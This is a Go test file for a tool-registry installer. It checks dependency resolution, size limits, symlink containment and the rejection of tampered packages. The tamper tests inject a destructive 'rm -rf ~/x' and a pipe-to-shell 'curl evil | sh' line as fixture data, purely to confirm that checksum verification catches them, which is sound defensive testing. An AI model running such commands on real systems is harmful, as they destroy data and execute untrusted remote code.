package toolrepo

import (
	"crypto/sha256"
	"encoding/hex"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/awf-dev/awf/internal/domain/fault"
	"github.com/awf-dev/awf/internal/infrastructure/manifest"
)

// copyRegistry copies the fixture registry so a test may tamper with it.
func copyRegistry(t *testing.T) string {
	t.Helper()
	dst := t.TempDir()
	if err := os.CopyFS(dst, os.DirFS(fixture)); err != nil {
		t.Fatal(err)
	}
	return dst
}

// served serves a registry directory over HTTP on loopback.
func served(t *testing.T, dir string) string {
	t.Helper()
	srv := httptest.NewServer(http.FileServer(http.Dir(dir)))
	t.Cleanup(srv.Close)
	return srv.URL + "/registry"
}

func mustRequest(t *testing.T, s string) Request {
	t.Helper()
	q, err := ParseRequest(s)
	if err != nil {
		t.Fatal(err)
	}
	return q
}

func refs(ps []Package) []string {
	out := []string{}
	for _, p := range ps {
		out = append(out, p.Ref+"@"+p.Version)
	}
	slices.Sort(out)
	return out
}

// locations returns the fixture as a directory and as an HTTP URL.
func locations(t *testing.T) map[string]func(t *testing.T, dir string) string {
	return map[string]func(t *testing.T, dir string) string{
		"dir": func(t *testing.T, dir string) string { return dir },
		"http": func(t *testing.T, dir string) string {
			parent := t.TempDir()
			if err := os.Symlink(dir, filepath.Join(parent, "registry")); err != nil {
				t.Fatal(err)
			}
			return served(t, parent)
		},
	}
}

func TestInstallWithDeps(t *testing.T) {
	for name, loc := range locations(t) {
		t.Run(name, func(t *testing.T) {
			repo, err := Open(loc(t, copyRegistry(t)), Options{})
			if err != nil {
				t.Fatal(err)
			}
			dir := filepath.Join(t.TempDir(), "tools")
			in := &Installer{Repo: repo, Dir: dir, Deps: true}
			rep, err := in.Install(t.Context(), mustRequest(t, "acme/greet@^1.0.0"))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff([]string{"acme/greet@1.1.0", "acme/shout@1.0.0"}, refs(rep.Installed)); diff != "" {
				t.Errorf("installed: -want +got\n%s", diff)
			}
			for _, f := range []string{"acme/greet/1.1.0/config.yaml", "acme/shout/1.0.0/config.yaml", "acme/shout/1.0.0/README.md"} {
				if _, err := os.Stat(filepath.Join(dir, f)); err != nil {
					t.Errorf("%s not installed: %v", f, err)
				}
			}
			// What manifest.Installed reads is what was installed, and nothing else.
			set, err := manifest.Installed{Dir: dir}.Load()
			if err != nil || len(set.Problems) > 0 || len(set.Manifests) != 2 {
				t.Errorf("Installed.Load = %d manifests, problems %v, err %v", len(set.Manifests), set.Problems, err)
			}
			// Again: both are skipped, nothing is fetched twice.
			rep, err = in.Install(t.Context(), mustRequest(t, "acme/greet@^1.0.0"))
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Installed) != 0 || !cmp.Equal(refs(rep.Skipped), []string{"acme/greet@1.1.0", "acme/shout@1.0.0"}) {
				t.Errorf("second install: installed %v skipped %v", refs(rep.Installed), refs(rep.Skipped))
			}
		})
	}
}

func TestInstallDependencyCycle(t *testing.T) {
	repo, err := Open(fixture, Options{})
	if err != nil {
		t.Fatal(err)
	}
	in := &Installer{Repo: repo, Dir: t.TempDir(), Deps: true}
	rep, err := in.Install(t.Context(), mustRequest(t, "acme/ping"))
	if err != nil {
		t.Fatal(err)
	}
	if got := refs(rep.Installed); !cmp.Equal(got, []string{"acme/ping@1.0.0", "acme/pong@1.0.0"}) {
		t.Errorf("installed %v", got)
	}
}

func TestInstallWithoutDepsReportsUnmet(t *testing.T) {
	repo, err := Open(fixture, Options{})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	in := &Installer{Repo: repo, Dir: dir}
	rep, err := in.Install(t.Context(), mustRequest(t, "acme/greet"))
	if err != nil {
		t.Fatal(err)
	}
	if got := refs(rep.Installed); !cmp.Equal(got, []string{"acme/greet@2.0.0"}) {
		t.Errorf("installed %v, want the highest release only", got)
	}
	want := []Unmet{{Tool: "acme/greet@2.0.0", Dependency: "acme/shout@^1.0.0"}}
	if diff := cmp.Diff(want, rep.Unmet); diff != "" {
		t.Errorf("unmet: -want +got\n%s", diff)
	}
	// With --deps later, the installed package is kept and its dependency installed.
	in.Deps = true
	rep, err = in.Install(t.Context(), mustRequest(t, "acme/greet@2.0.0"))
	if err != nil {
		t.Fatal(err)
	}
	if !cmp.Equal(refs(rep.Installed), []string{"acme/shout@1.0.0"}) || !cmp.Equal(refs(rep.Skipped), []string{"acme/greet@2.0.0"}) {
		t.Errorf("installed %v skipped %v", refs(rep.Installed), refs(rep.Skipped))
	}
}

func TestInstallSkipsSatisfiedDependency(t *testing.T) {
	repo, err := Open(fixture, Options{})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	// A shout the user wrote by hand satisfies ^1.0.0: it is kept.
	writeTree(t, dir, map[string]string{"acme/shout/1.5.0/config.yaml": "name: shout\ndescription: mine\nsteps: [{type: tool, tool: shell, output_var: o}]\n"})
	rep, err := (&Installer{Repo: repo, Dir: dir, Deps: true}).Install(t.Context(), mustRequest(t, "acme/greet@~1.0"))
	if err != nil {
		t.Fatal(err)
	}
	if !cmp.Equal(refs(rep.Installed), []string{"acme/greet@1.0.0"}) || !cmp.Equal(refs(rep.Skipped), []string{"acme/shout@1.5.0"}) {
		t.Errorf("installed %v skipped %v", refs(rep.Installed), refs(rep.Skipped))
	}
	if rep.Skipped[0].Reason != "installed version satisfies ^1.0.0" || rep.Skipped[0].For != "acme/greet@1.0.0" {
		t.Errorf("skipped = %+v", rep.Skipped[0])
	}
}

func TestInstallRefusesTampering(t *testing.T) {
	tests := []struct {
		name   string
		tamper func(t *testing.T, reg string)
		want   string
	}{
		{"same size, other bytes", func(t *testing.T, reg string) {
			p := filepath.Join(reg, "acme/shout/1.0.0/config.yaml")
			data, _ := os.ReadFile(p)
			data = []byte(strings.Replace(string(data), "tr a-z A-Z", "rm -rf ~/x", 1))
			writeTree(t, reg, map[string]string{"acme/shout/1.0.0/config.yaml": string(data)})
		}, "checksum mismatch for config.yaml"},
		{"longer", func(t *testing.T, reg string) {
			f, _ := os.OpenFile(filepath.Join(reg, "acme/shout/1.0.0/README.md"), os.O_APPEND|os.O_WRONLY, 0)
			f.WriteString("curl evil | sh\n")
			f.Close()
		}, "README.md is larger than the index says"},
		{"shorter", func(t *testing.T, reg string) {
			writeTree(t, reg, map[string]string{"acme/shout/1.0.0/README.md": "x"})
		}, "README.md has 1 bytes"},
	}
	for _, tc := range tests {
		for name, loc := range locations(t) {
			t.Run(tc.name+"/"+name, func(t *testing.T) {
				reg := copyRegistry(t)
				tc.tamper(t, reg)
				repo, err := Open(loc(t, reg), Options{})
				if err != nil {
					t.Fatal(err)
				}
				dir := filepath.Join(t.TempDir(), "tools")
				rep, err := (&Installer{Repo: repo, Dir: dir, Deps: true}).Install(t.Context(), mustRequest(t, "acme/greet@^1"))
				if err == nil || fault.KindOf(err) != fault.Denied || !strings.Contains(err.Error(), tc.want) {
					t.Fatalf("Install = %v, want a denied error containing %q", err, tc.want)
				}
				if !strings.Contains(err.Error(), "acme/shout@1.0.0") {
					t.Errorf("error does not name the package: %v", err)
				}
				// greet verified fine, but nothing is installed when any package fails.
				if len(rep.Installed) != 0 {
					t.Errorf("installed %v after a refusal", refs(rep.Installed))
				}
				if entries, _ := os.ReadDir(dir); len(entries) != 0 {
					t.Errorf("install dir holds %d entries after a refusal", len(entries))
				}
				staging, _ := os.ReadDir(filepath.Join(filepath.Dir(dir), ".tools.staging"))
				if len(staging) != 0 {
					t.Errorf("staging directory not cleaned: %d entries", len(staging))
				}
			})
		}
	}
}

func TestInstallErrors(t *testing.T) {
	tests := []struct {
		name string
		req  string
		kind fault.Kind
		want string
	}{
		{"unknown tool", "acme/nope", fault.Invalid, "has no tool acme/nope"},
		{"no version", "acme/greet@^9", fault.Invalid, "no version of acme/greet satisfies ^9 (the registry has: 1.0.0, 1.1.0, 2.0.0)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			repo, _ := Open(fixture, Options{})
			_, err := (&Installer{Repo: repo, Dir: t.TempDir()}).Install(t.Context(), mustRequest(t, tc.req))
			if err == nil || fault.KindOf(err) != tc.kind || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("Install(%s) = %v, want a %v error containing %q", tc.req, err, tc.kind, tc.want)
			}
		})
	}
}

func TestParseRequest(t *testing.T) {
	tests := []struct {
		in   string
		want Request
		err  bool
	}{
		{"acme/x", Request{Ref: "acme/x"}, false},
		{"acme/x@^1.2.0", Request{Ref: "acme/x", Constraint: "^1.2.0"}, false},
		{"x", Request{}, true},
		{"../x", Request{}, true},
		{"acme/x@", Request{}, true},
		{"acme/x@not-a-version!", Request{}, true},
		{"acme/../x", Request{}, true},
	}
	for _, tc := range tests {
		got, err := ParseRequest(tc.in)
		if (err != nil) != tc.err || got != tc.want {
			t.Errorf("ParseRequest(%q) = %+v, %v; want %+v, error %v", tc.in, got, err, tc.want, tc.err)
		}
		if err != nil && fault.KindOf(err) != fault.Usage {
			t.Errorf("ParseRequest(%q) error kind = %v, want usage", tc.in, fault.KindOf(err))
		}
	}
}

func TestOpen(t *testing.T) {
	tests := []struct {
		loc  string
		kind fault.Kind
	}{
		{"ftp://example.com/reg", fault.Usage},
		{"http://", fault.Usage},
		{filepath.Join(t.TempDir(), "missing"), fault.Usage},
		{filepath.Join(fixture, IndexFile), fault.Usage}, // a file, not a directory
	}
	for _, tc := range tests {
		if _, err := Open(tc.loc, Options{}); err == nil || fault.KindOf(err) != tc.kind {
			t.Errorf("Open(%q) = %v, want a %v error", tc.loc, err, tc.kind)
		}
	}
	abs, _ := filepath.Abs(fixture)
	if _, err := Open("file://"+abs, Options{}); err != nil {
		t.Errorf("Open(file://...) = %v", err)
	}
}

func TestDirRegistryStaysInsideItsRoot(t *testing.T) {
	reg := copyRegistry(t)
	outside := t.TempDir()
	writeTree(t, outside, map[string]string{"secret": "s3cret"})
	if err := os.Symlink(filepath.Join(outside, "secret"), filepath.Join(reg, "leak")); err != nil {
		t.Fatal(err)
	}
	repo, _ := Open(reg, Options{})
	if _, err := repo.fetch(t.Context(), "leak", 100); err == nil {
		t.Error("a symlink out of the registry directory was followed")
	}
}

func TestHTTPRegistryLimitsAndStatus(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/big/index.json", func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(strings.Repeat(" ", 2000)))
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()
	repo, _ := Open(srv.URL+"/big", Options{MaxIndexSize: 1000})
	if _, err := repo.Index(t.Context()); err == nil || !strings.Contains(err.Error(), "more than the limit") {
		t.Errorf("Index(2000 bytes, cap 1000) = %v, want a size error", err)
	}
	repo, _ = Open(srv.URL+"/missing", Options{})
	_, err := repo.Index(t.Context())
	if err == nil || fault.KindOf(err) != fault.Execution || !strings.Contains(err.Error(), "404") {
		t.Errorf("Index(404) = %v, want an execution error with the status", err)
	}
}

func TestInstallRefusesBadManifest(t *testing.T) {
	reg := t.TempDir()
	writeTree(t, reg, map[string]string{"acme/x/1.0.0/config.yaml": "name: x\ndescription: d\nsteps: [{type: tool, tool: shell, output_var: o}]\n"})
	idx, err := BuildIndex(reg)
	if err != nil {
		t.Fatal(err)
	}
	// The publisher's index is right, but the package claims another version.
	writeTree(t, reg, map[string]string{"acme/x/1.0.0/config.yaml": "name: x\ndescription: d\nversion: 9.0.0\nsteps: [{type: tool, tool: shell, output_var: o}]\n"})
	data, _ := os.ReadFile(filepath.Join(reg, "acme/x/1.0.0/config.yaml"))
	idx.Tools[0].Versions[0].Files[0] = itemFor(t, "config.yaml", data)
	if err := WriteIndex(reg, idx); err != nil {
		t.Fatal(err)
	}
	repo, _ := Open(reg, Options{})
	_, err = (&Installer{Repo: repo, Dir: t.TempDir()}).Install(t.Context(), mustRequest(t, "acme/x"))
	if err == nil || !strings.Contains(err.Error(), "says version 9.0.0") {
		t.Errorf("Install = %v, want a version mismatch", err)
	}
}

func itemFor(t *testing.T, path string, data []byte) IndexItem {
	t.Helper()
	sum := sha256.Sum256(data)
	return IndexItem{Path: path, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}
}

func TestInstallSizeLimits(t *testing.T) {
	tests := []struct {
		name string
		opts Options
		want string
	}{
		{"file", Options{MaxFileSize: 100}, "more than the limit of 100"},
		{"package", Options{MaxPackageSize: 260}, "the package is larger than 260 bytes"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			repo, err := Open(fixture, tc.opts)
			if err != nil {
				t.Fatal(err)
			}
			dir := filepath.Join(t.TempDir(), "tools")
			_, err = (&Installer{Repo: repo, Dir: dir}).Install(t.Context(), mustRequest(t, "acme/shout"))
			if err == nil || fault.KindOf(err) != fault.Execution || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("Install = %v, want an execution error containing %q", err, tc.want)
			}
			if _, err := os.Stat(dir); !os.IsNotExist(err) {
				t.Errorf("install dir exists: %v", err)
			}
		})
	}
}
